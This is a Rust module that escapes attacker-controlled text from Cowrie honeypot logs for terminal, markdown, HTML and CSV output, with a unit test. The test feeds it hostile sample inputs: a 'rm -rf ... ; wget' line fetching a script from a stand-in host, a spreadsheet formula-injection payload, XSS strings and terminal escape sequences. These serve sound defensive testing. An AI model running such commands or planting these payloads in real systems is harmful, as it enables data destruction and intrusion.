//! Escaping attacker-controlled text for each output format. Cowrie logs carry whatever an
//! attacker typed: terminal escapes, HTML, markdown, spreadsheet formulas.

/// Terminal-safe: control characters (C0, DEL, C1, including ESC) become visible escapes.
pub fn text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            c if (c as u32) < 0x20 || c as u32 == 0x7f || (0x80..0xa0).contains(&(c as u32)) => {
                out.push_str(&format!("\\x{:02x}", c as u32))
            }
            // Bidirectional overrides can make a command read differently than it runs.
            '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

/// Markdown-safe (also inside table cells), escaping only what markdown would read: HTML is
/// entity-escaped; emphasis, code, links, strike-through and pipes (which end a cell) are
/// backslash-escaped; a leading `#`, `-`, `+`, `>`, `=` or `1.` cannot start a block; URLs
/// are not turned into links (`http\://`, `www\.`); control characters are visible.
pub fn markdown(s: &str) -> String {
    let t = text(s);
    let mut out = String::with_capacity(t.len() + 8);
    let chars: Vec<char> = t.chars().collect();
    let block_start = {
        let digits = chars.iter().take_while(|c| c.is_ascii_digit()).count();
        match chars.first() {
            Some('#' | '-' | '+' | '=') => Some(0),
            // `1. ` or `1) ` starts an ordered list; `1.2.3.4` does not.
            Some(_)
                if digits > 0
                    && matches!(chars.get(digits), Some('.' | ')'))
                    && chars.get(digits + 1).is_none_or(|c| c.is_whitespace()) =>
            {
                Some(digits)
            }
            _ => None,
        }
    };
    for (i, &c) in chars.iter().enumerate() {
        match c {
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '&' => out.push_str("&amp;"),
            '\\' | '`' | '*' | '_' | '[' | ']' | '|' | '~' => {
                out.push('\\');
                out.push(c);
            }
            ':' if chars.get(i + 1) == Some(&'/') && chars.get(i + 2) == Some(&'/') => out.push_str("\\:"),
            '.' if i >= 3 && chars[i - 3..i].iter().all(|c| c.eq_ignore_ascii_case(&'w')) => out.push_str("\\."),
            c if block_start == Some(i) => {
                out.push('\\');
                out.push(c);
            }
            c => out.push(c),
        }
    }
    out
}

/// HTML text and attribute values.
pub fn html(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        match c {
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '&' => out.push_str("&amp;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#x27;"),
            c => out.push(c),
        }
    }
    out
}

/// A CSV cell that a spreadsheet will not run as a formula (OWASP: prefix with `'`).
pub fn csv_cell(s: &str) -> String {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '|') => format!("'{s}"),
        _ => s.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_strings_are_defused() {
        assert_eq!(text("a\x1b[31mred\x07"), "a\\x1b[31mred\\x07");
        assert_eq!(text("x\u{9b}y"), "x\\x9by");
        assert_eq!(markdown("a|b `c` <script>"), "a\\|b \\`c\\` &lt;script&gt;");
        // Only what markdown reads: addresses and ordinary punctuation stay as they are.
        assert_eq!(markdown("1.2.3.4 (ssh) a-b+c!"), "1.2.3.4 (ssh) a-b+c!");
        assert_eq!(
            markdown("rm -rf /tmp/* ; wget http://x.example/a_b.sh"),
            "rm -rf /tmp/\\* ; wget http\\://x.example/a\\_b.sh"
        );
        assert_eq!(markdown("see www.evil.test"), "see www\\.evil.test");
        assert_eq!(markdown("# not a heading"), "\\# not a heading");
        assert_eq!(markdown("- not a list"), "\\- not a list");
        assert_eq!(markdown("12. not a list"), "12\\. not a list");
        assert_eq!(markdown("[x](javascript:alert(1))"), "\\[x\\](javascript:alert(1))");
        assert_eq!(html("<img src=x onerror='a'>&"), "&lt;img src=x onerror=&#x27;a&#x27;&gt;&amp;");
        assert_eq!(csv_cell("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
        assert_eq!(csv_cell("@SUM(1)"), "'@SUM(1)");
        assert_eq!(csv_cell("wget http://x"), "wget http://x");
    }
}
